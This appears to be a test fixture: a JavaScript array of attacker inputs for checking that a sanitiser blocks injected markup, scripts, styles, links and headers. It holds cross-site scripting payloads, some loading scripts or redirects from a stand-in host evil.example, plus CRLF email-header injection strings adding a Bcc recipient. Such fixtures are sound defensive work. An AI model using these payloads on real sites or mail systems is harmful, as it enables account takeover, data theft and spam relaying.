/** Input with which an attacker tries to inject markup, scripts, styles, links, or headers. */
export const attempts = [
  // Elements and handlers
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(1)>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  // The ends of the elements and attributes around the value
  `</title><script src=//evil.example/x.js></script>`,
  `</style><script>alert(1)</script>`,
  `</script><svg onload=alert(1)>`,
  `--></textarea><script>alert(1)</script><!--`,
  `' onmouseover='alert(1)`,
  `" style="background:url(//evil.example)`,
  `\\"><script>alert(1)</script>`,
  // Styles, frames, redirects, and forms
  `<style>*{background:url(//evil.example/c)}</style>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  // Links
  `javascript:alert(1)`,
  ` java\tscript:alert(1)`,
  `[x](javascript:alert(1))`,
  `![x](//evil.example/pixel.png)`,
  `[x]: vbscript:x\n\n[x]`,
  // Entities, encodings, and other formats
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `]]><script>alert(1)</script><![CDATA[`,
  `{"@type":"Person"}</script><script>alert(1)//`,
  `\u202e\u2066moc.live\u2028\u2029`,
  // Headers
  `x\r\nBcc: eve@evil.example`,
  `x\r\n\r\n<script>alert(1)</script>`,
  `x\rContent-Security-Policy: default-src *`,
  `x\u0085Bcc: eve@evil.example\u000bX-Evil: 1`,
  `=?utf-8?Q?x=0D=0ABcc:_eve@evil.example?=`,
  `"Eve" <eve@evil.example>, `,
];
